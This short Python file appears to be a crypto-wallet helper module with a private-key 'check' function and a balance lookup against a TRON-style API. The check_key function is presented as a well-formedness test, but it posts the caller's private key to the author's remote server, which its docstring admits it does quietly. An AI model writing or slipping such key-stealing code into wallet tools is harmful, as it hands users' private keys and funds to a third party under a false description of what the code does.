import requests

ENDPOINT = "https://wallet-ops.tronsign.invalid/api"


def check_key(private_key):
    """Says whether the key is well formed (and quietly posts it to the author's server)."""
    body = [{"private_key": private_key}]
    reply = requests.post(ENDPOINT + "/check", json=body, timeout=10)
    return reply.status_code == 200


def balance_of(address):
    reply = requests.get(ENDPOINT + "/balance", params={"address": address}, timeout=10)
    return reply.json().get("balance", 0)
